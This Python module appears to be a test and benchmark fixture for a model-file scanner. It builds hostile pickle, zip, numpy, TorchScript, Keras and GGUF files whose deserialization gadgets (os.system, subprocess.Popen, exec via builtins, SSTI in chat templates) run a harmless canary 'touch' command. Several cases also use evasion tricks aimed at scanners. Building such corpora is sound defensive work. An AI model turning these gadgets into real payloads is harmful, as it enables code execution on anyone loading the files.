"""A hostile corpus of model files, built from raw opcodes and never loaded here.

Each case is a function of the canary path it would create when loaded by the real
loader (``touch <canary>``), a file name, the loader that runs it, and the verdict
chainward must give. The classes follow issue 21: headers without PROTO, leading no-op
opcodes, FRAME without PROTO, stack and memo tricks (POP dropping a MARK, POP_MARK,
PUT/GET/MEMOIZE), legacy multi-pickle files with the payload in a later protocol 0
pickle, a payload in the 9th pickle, arguments pickletools rejects (``I0x10``), gzip
wrapping, dotted names resolved through module attributes (``tarfile.os.system``,
``builtins.__dict__.get``), callables once ranked medium (``pydoc.locate``,
``timeit``, ``cProfile``), INST/OBJ calls, zips with an upper-case ``DATA.PKL`` or
a malformed extra field, numpy object arrays, legacy tar checkpoints, TorchScript
archives whose code writes a file from ``__setstate__`` at load time.

Used by ``tests/models/test_hostile_models.py`` and ``benchmarks/model_scan.py``.
"""

from __future__ import annotations

import gzip
import io
import json
import shlex
import struct
import subprocess
import sys
import tarfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

TORCH_MAGIC = 0x1950A86A20F9469CFC6C


def s0(text: str) -> bytes:
    """A protocol 0 STRING."""
    return b"S'" + text.replace("\\", "\\\\").replace("'", "\\'").encode() + b"'\n"


def su(text: str) -> bytes:
    """SHORT_BINUNICODE (or BINUNICODE when long)."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def g0(module: str, name: str) -> bytes:
    """GLOBAL."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def touch(target: Path) -> str:
    """The shell command that creates the canary."""
    return f"touch {shlex.quote(str(target))}"


def py_touch(target: Path) -> str:
    """Python code that creates the canary."""
    return f"open({str(target)!r}, 'w').close()"


def proto0_system(target: Path) -> bytes:
    return g0("os", "system") + b"(" + s0(touch(target)) + b"tR."


def proto1_posix(target: Path) -> bytes:
    return g0("posix", "system") + b"(" + su(touch(target)) + b"tR."


def leading_noops(target: Path) -> bytes:
    return b"N0" * 3 + b"(0" + b"\x80\x02" + g0("os", "system") + su(touch(target)) + b"\x85R."


def frame_no_proto(target: Path) -> bytes:
    body = g0("os", "system") + su(touch(target)) + b"\x85R."
    return b"\x95" + struct.pack("<Q", len(body)) + body


def pop_drops_mark(target: Path) -> bytes:
    # "os", MARK, POP (drops the MARK, not "os"), "system", STACK_GLOBAL -> os.system
    return b"\x80\x04" + su("os") + b"(0" + su("system") + b"\x93" + su(touch(target)) + b"\x85R."


def pop_mark_decoy(target: Path) -> bytes:
    # a decoy global inside a MARK that POP_MARK discards, then the real one.
    return (
        b"\x80\x02("
        + g0("collections", "OrderedDict")
        + b"1"
        + g0("subprocess", "getoutput")
        + su(touch(target))
        + b"\x85R."
    )


def memo_put_get(target: Path) -> bytes:
    # module and name through the memo: PUT 7 (text index), then MEMOIZE, which takes
    # the next index after the entries already held (1, not 0).
    return (
        b"\x80\x04"
        + su("posix")
        + b"p7\n0"
        + su("system")
        + b"\x94"
        + b"0g7\nh\x01\x93"
        + su(touch(target))
        + b"\x85R."
    )


def legacy_multi_pickle(target: Path) -> bytes:
    import pickle

    head = pickle.dumps(TORCH_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
    head += pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2)
    return head + proto0_system(target)


def ninth_pickle(target: Path) -> bytes:
    benign = b"\x80\x02]q\x00K\x01a."
    return benign * 8 + proto0_system(target)


def later_proto0(target: Path) -> bytes:
    return b"\x80\x02}q\x00." + proto1_posix(target)


def int_base0(target: Path) -> bytes:
    # INT "0x10": the unpickler reads it with base 0; pickletools raises.
    return b"I0x10\n0" + g0("os", "system") + b"(" + s0(touch(target)) + b"tR."


def gzip_pickle(target: Path) -> bytes:
    return gzip.compress(b"\x80\x02" + g0("os", "system") + su(touch(target)) + b"\x85R.")


def dotted_tarfile_os(target: Path) -> bytes:
    return b"\x80\x04" + su("tarfile") + su("os.system") + b"\x93" + su(touch(target)) + b"\x85R."


def dotted_builtins_dict(target: Path) -> bytes:
    # builtins.__dict__.get("exec")(code)
    return (
        b"\x80\x04"
        + su("builtins")
        + su("__dict__.get")
        + b"\x93"
        + su("exec")
        + b"\x85R"
        + su(py_touch(target))
        + b"\x85R."
    )


def pydoc_locate(target: Path) -> bytes:
    return g0("pydoc", "locate") + su("os.system") + b"\x85R" + su(touch(target)) + b"\x85R."


def timeit_stmt(target: Path) -> bytes:
    # timeit.timeit(stmt="pass", setup=<code>): the setup runs once.
    return g0("timeit", "timeit") + su("pass") + su(py_touch(target)) + b"\x86R."


def cprofile_run(target: Path) -> bytes:
    return g0("cProfile", "run") + su(py_touch(target)) + b"\x85R."


def inst_call(target: Path) -> bytes:
    return b"(" + s0(touch(target)) + b"ios\nsystem\n."


def obj_popen(target: Path) -> bytes:
    return (
        b"\x80\x02("
        + g0("subprocess", "Popen")
        + b"("
        + su("touch")
        + su(str(target))
        + b"lo"
        + g0("builtins", "print")
        + b"0."
    )


def zip_bytes(members: dict[str, bytes]) -> bytes:
    """A zip archive of ``members`` (name -> data), as bytes."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_upper_case(target: Path) -> bytes:
    payload = b"\x80\x02" + g0("os", "system") + su(touch(target)) + b"\x85R."
    return zip_bytes({"archive/DATA.PKL": payload, "archive/version": b"3\n"})


def zip_bad_extra(target: Path) -> bytes:
    """A zip whose central directory entry carries an extra field longer than its room:
    Python's zipfile refuses the archive ("Corrupt extra field"); miniz, which reads
    extra fields only for zip64 sizes, and the local headers do not mind."""
    payload = b"\x80\x02" + g0("os", "system") + su(touch(target)) + b"\x85R."
    data = bytearray(zip_bytes({"archive/data.pkl": payload, "archive/version": b"3\n"}))
    central = data.find(b"PK\x01\x02")
    # An extra field (id 0xcafe) that claims 32 bytes and holds 2.
    name_len, extra_len = struct.unpack_from("<HH", data, central + 28)
    assert extra_len == 0
    name_end = central + 46 + name_len
    data[name_end:name_end] = b"\xfe\xca\x20\x00\xff\xff"
    struct.pack_into("<H", data, central + 30, 6)
    end = data.find(b"PK\x05\x06")
    size = struct.unpack_from("<I", data, end + 12)[0]
    struct.pack_into("<I", data, end + 12, size + 6)
    return bytes(data)


def npy_object(target: Path) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    payload = b"\x80\x02" + g0("os", "system") + su(touch(target)) + b"\x85R."
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def legacy_tar(target: Path) -> bytes:
    import pickle

    buffer = io.BytesIO()
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True}, protocol=2),
        "storages": pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2),
        "tensors": pickle.dumps(0, protocol=2),
        "pickle": proto0_system(target),
    }
    with tarfile.open(fileobj=buffer, mode="w:", format=tarfile.PAX_FORMAT) as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def npz_object(target: Path) -> bytes:
    return zip_bytes({"arr_0.npy": npy_object(target)})


def torch_load_from_bytes(target: Path) -> bytes:
    # torch.storage._load_from_bytes(b) is torch.load(BytesIO(b), weights_only=False):
    # a gadget a `torch.*` allow-list let through.
    inner = legacy_multi_pickle(target)
    data = b"C" + bytes([len(inner)]) + inner if len(inner) < 256 else b""
    assert data, "inner pickle too long for SHORT_BINBYTES"
    return b"\x80\x02" + g0("torch.storage", "_load_from_bytes") + data + b"\x85R."


def runpy_run_code(target: Path) -> bytes:
    return b"\x80\x02" + g0("runpy", "_run_code") + su(py_touch(target)) + b"}\x86R."


# A TorchScript module whose __setstate__ (run by torch.jit.load while it unpickles
# data.pkl) calls an operator that writes a file: the code member is compiled from
# source, so it is written here as torch.jit.save would, never compiled in the test.
TORCHSCRIPT_CODE = """class Evil(Module):
  __parameters__ = []
  __buffers__ = []
  training : bool
  def forward(self: __torch__.Evil,
    x: Tensor) -> Tensor:
    return x
  def __getstate__(self: __torch__.Evil) -> Tuple[bool]:
    return (self.training,)
  def __setstate__(self: __torch__.Evil,
    state: Tuple[bool]) -> NoneType:
    self.training = (state)[0]
    CALL(state, CANARY)
    return None
"""


def torchscript_archive(code: str, prefix: str = "archive") -> bytes:
    """A minimal TorchScript zip: data.pkl (an ``__torch__.Evil`` object built with a
    state tuple, so its __setstate__ runs), the code member, constants.pkl, version."""
    return zip_bytes(
        {
            f"{prefix}/data.pkl": b"\x80\x02c__torch__\nEvil\nq\x00)\x81\x88\x85b.",
            f"{prefix}/code/__torch__.py": code.encode(),
            f"{prefix}/constants.pkl": b"\x80\x02).",
            f"{prefix}/version": b"3\n",
        }
    )


def _torchscript_calling(call: str) -> Callable[[Path], bytes]:
    def build(target: Path) -> bytes:
        code = TORCHSCRIPT_CODE.replace("CALL", call).replace("CANARY", repr(str(target)))
        return torchscript_archive(code.replace("'", '"'))

    build.__name__ = f"torchscript_{call.replace('.', '_')}"
    return build


def keras_lambda(target: Path) -> bytes:
    """A Keras v3 ``.keras`` whose Lambda layer holds marshalled code that creates the
    canary: ``load_model(..., safe_mode=False)`` rebuilds the functional model and calls
    the layer while loading (CVE-2024-3660's vector). The code object is compiled and
    marshalled here, never run; the weights member is a stub (the canary fires before
    weights are read)."""
    import base64
    import json
    import marshal

    function = compile(f"lambda x: ({py_touch(target)}, x)[1]", "<lambda>", "eval")
    code = next(c for c in function.co_consts if hasattr(c, "co_code"))
    layer = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {
            "name": "lambda",
            "trainable": True,
            "function": {
                "class_name": "__lambda__",
                "config": {
                    "code": base64.b64encode(marshal.dumps(code)).decode(),
                    "defaults": None,
                    "closure": None,
                },
            },
            "arguments": {},
        },
        "registered_name": None,
        "build_config": {"input_shape": [None, 2]},
        "name": "lambda",
        "inbound_nodes": [
            {
                "args": [
                    {
                        "class_name": "__keras_tensor__",
                        "config": {
                            "shape": [None, 2],
                            "dtype": "float32",
                            "keras_history": ["input_layer", 0, 0],
                        },
                    }
                ],
                "kwargs": {"mask": None},
            }
        ],
    }
    source = {
        "module": "keras.layers",
        "class_name": "InputLayer",
        "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input_layer"},
        "registered_name": None,
        "name": "input_layer",
        "inbound_nodes": [],
    }
    config = keras_config([source, layer])
    inner = config["config"]
    assert isinstance(inner, dict)
    inner.update(input_layers=["input_layer", 0, 0], output_layers=["lambda", 0, 0])
    return zip_bytes(
        {
            "metadata.json": b'{"keras_version": "3.6.0"}',
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
        }
    )


@dataclass(frozen=True)
class Case:
    """One hostile file: how to build it, its name, its loader, the verdict expected."""

    name: str
    build: Callable[[Path], bytes]
    filename: str
    loader: str
    check_id: str = "unsafe-pickle"
    severity: str = "critical"


CASES = (
    Case("proto0-no-proto", proto0_system, "model.dat", "pickle"),
    Case("proto1-no-proto", proto1_posix, "weights", "pickle"),
    Case("leading-noops", leading_noops, "model.pth.tar", "pickle"),
    Case("frame-no-proto", frame_no_proto, "model.bin", "pickle"),
    Case("pop-drops-mark", pop_drops_mark, "model.pt", "pickle"),
    Case("pop-mark-decoy", pop_mark_decoy, "model.pt", "pickle"),
    Case("memo-put-get", memo_put_get, "model.pkl", "pickle"),
    Case("legacy-multi-pickle", legacy_multi_pickle, "legacy.pt", "pickles"),
    Case("ninth-pickle", ninth_pickle, "stream.pkl", "pickles"),
    Case("later-proto0", later_proto0, "stream.bin", "pickles"),
    Case("int-base0", int_base0, "model.ckpt", "pickle"),
    Case("gzip-pickle", gzip_pickle, "model.pkl.gz", "gzip"),
    Case("dotted-tarfile-os", dotted_tarfile_os, "model.pkl", "pickle"),
    Case("dotted-builtins-dict", dotted_builtins_dict, "model.pkl", "pickle"),
    Case("pydoc-locate", pydoc_locate, "model.pkl", "pickle"),
    Case("timeit", timeit_stmt, "model.pkl", "pickle"),
    Case("cprofile", cprofile_run, "model.pkl", "pickle"),
    Case("inst-call", inst_call, "model.pkl", "pickle"),
    Case("obj-popen", obj_popen, "model.pkl", "pickle"),
    Case("zip-upper-case", zip_upper_case, "model.pt", "zip-pickle"),
    Case("zip-bad-extra", zip_bad_extra, "model.pt", "torch"),
    Case("npy-object", npy_object, "array.npy", "numpy"),
    Case("npz-object", npz_object, "arrays.npz", "numpy-npz"),
    Case("torch-load-from-bytes", torch_load_from_bytes, "model.pt", "torch"),
    Case("runpy-run-code", runpy_run_code, "model.pkl", "pickle"),
    Case("legacy-tar", legacy_tar, "model.tar", "torch"),
    Case(
        "torchscript-save",
        _torchscript_calling("torch.save"),
        "scripted.pt",
        "torchscript",
        "unsafe-model-content",
    ),
    Case(
        "torchscript-ops-save",
        _torchscript_calling("ops.aten.save"),
        "model.bin",
        "torch",
        "unsafe-model-content",
    ),
    Case("keras-lambda", keras_lambda, "model.keras", "keras", "unsafe-model-content"),
)

# The loaders, run in a subprocess: each opens the file as a victim would.
LOADERS = {
    "pickle": "import pickle, sys\npickle.load(open(sys.argv[1], 'rb'))\n",
    "pickles": (
        "import pickle, sys\nf = open(sys.argv[1], 'rb')\n"
        "while True:\n    try:\n        pickle.load(f)\n    except EOFError:\n        break\n"
    ),
    "gzip": "import gzip, pickle, sys\npickle.load(gzip.open(sys.argv[1]))\n",
    "zip-pickle": (
        "import pickle, sys, zipfile\nz = zipfile.ZipFile(sys.argv[1])\n"
        "name = next(n for n in z.namelist() if n.lower().endswith('data.pkl'))\n"
        "pickle.loads(z.read(name))\n"
    ),
    "torch": "import sys, torch\ntorch.load(sys.argv[1], weights_only=False)\n",
    "torchscript": "import sys, torch\ntorch.jit.load(sys.argv[1])\n",
    "keras": (
        "import os, sys\nos.environ.setdefault('KERAS_BACKEND', 'torch')\nimport keras\n"
        "keras.saving.load_model(sys.argv[1], safe_mode=False)\n"
    ),
    "numpy": "import sys, numpy\nnumpy.load(sys.argv[1], allow_pickle=True)\n",
    "numpy-npz": (
        "import sys, numpy\nz = numpy.load(sys.argv[1], allow_pickle=True)\n"
        "[z[name] for name in z.files]\n"
    ),
}
LOADER_NEEDS: dict[str, str | tuple[str, ...]] = {
    "keras": ("keras", "torch"),
    "torch": "torch",
    "torchscript": "torch",
    "numpy": "numpy",
    "numpy-npz": "numpy",
}


# --- formats beyond pickle -------------------------------------------------------------


def gguf_file(template: str) -> bytes:
    """A GGUF v3 header with a chat template and a token list (no tensors)."""

    def text(value: str) -> bytes:
        raw = value.encode()
        return struct.pack("<Q", len(raw)) + raw

    entries = [
        text("general.architecture") + struct.pack("<I", 8) + text("llama"),
        text("llama.context_length") + struct.pack("<I", 4) + struct.pack("<I", 4096),
        text("tokenizer.ggml.tokens")
        + struct.pack("<I", 9)
        + struct.pack("<IQ", 8, 3)
        + b"".join(text(t) for t in ("<s>", "</s>", "hi")),
        text("tokenizer.ggml.scores")
        + struct.pack("<I", 9)
        + struct.pack("<IQ", 6, 3)
        + struct.pack("<3f", 0, 0, 0),
        text("tokenizer.chat_template") + struct.pack("<I", 8) + text(template),
    ]
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(entries)) + b"".join(entries)


def gguf_ssti(target: Path) -> bytes:
    """A chat template that runs a command when rendered by an unsandboxed Jinja."""
    return gguf_file(
        "{% for m in messages %}{{ m.content }}{% endfor %}"
        "{{ cycler.__init__.__globals__.os.system(" + repr(touch(target)) + ") }}"
    )


def keras_config(layers: list[dict[str, object]]) -> dict[str, object]:
    return {
        "module": "keras.src.models.functional",
        "class_name": "Functional",
        "config": {"name": "m", "layers": layers},
    }


LAMBDA_LAYER: dict[str, object] = {
    "module": "keras.layers",
    "class_name": "Lambda",
    "config": {"name": "l", "function": {"class_name": "__lambda__", "config": {"code": "4wEA"}}},
}
DENSE_LAYER: dict[str, object] = {
    "module": "keras.layers",
    "class_name": "Dense",
    "config": {"name": "d", "units": 2},
}


def keras_zip(layers: list[dict[str, object]]) -> bytes:
    import json

    return zip_bytes(
        {
            "metadata.json": b'{"keras_version": "3.6.0"}',
            "config.json": json.dumps(keras_config(layers)).encode(),
            "model.weights.h5": b"\x89HDF\r\n\x1a\n" + b"\x00" * 64,
        }
    )


def canary_appears(loader: str, path: Path, canary: Path) -> bool:
    """Run the real loader code ``loader`` on ``path`` in a subprocess (never in the test
    process); True if the payload created ``canary``."""
    subprocess.run(
        [sys.executable, "-c", loader, str(path)],
        cwd=path.parent,
        capture_output=True,
        timeout=120,
        check=False,
    )
    for _ in range(50):  # a spawned child may finish after the loader exits
        if canary.exists():
            return True
        time.sleep(0.1)
    return False


def render_gguf_template(path: Path, messages: list[dict[str, str]]) -> None:
    """What an unsandboxed front end does with a GGUF file: read its chat template with
    chainward's reader and render it with jinja2, in a subprocess (never in the test
    process)."""
    renderer = (
        "import sys, json, jinja2\n"
        "sys.path.insert(0, sys.argv[2])\n"
        "from chainward.models.formats import gguf_chat_templates\n"
        "t = gguf_chat_templates(open(sys.argv[1], 'rb'), 1 << 20)['tokenizer.chat_template']\n"
        "jinja2.Environment().from_string(t).render(messages=json.loads(sys.argv[3]))\n"
    )
    src = str(Path(__file__).resolve().parents[2] / "src")
    subprocess.run(
        [sys.executable, "-c", renderer, str(path), src, json.dumps(messages)],
        cwd=path.parent,
        check=False,
        timeout=60,
    )
